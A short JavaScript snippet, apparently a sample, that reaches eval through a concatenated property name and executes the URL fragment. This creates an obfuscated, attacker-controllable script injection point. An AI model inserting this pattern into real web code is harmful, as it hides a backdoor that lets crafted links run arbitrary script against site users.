// Looks eval up on the global object by a joined name.
const f = window['ev' + 'al'];
f(location.hash.slice(1));
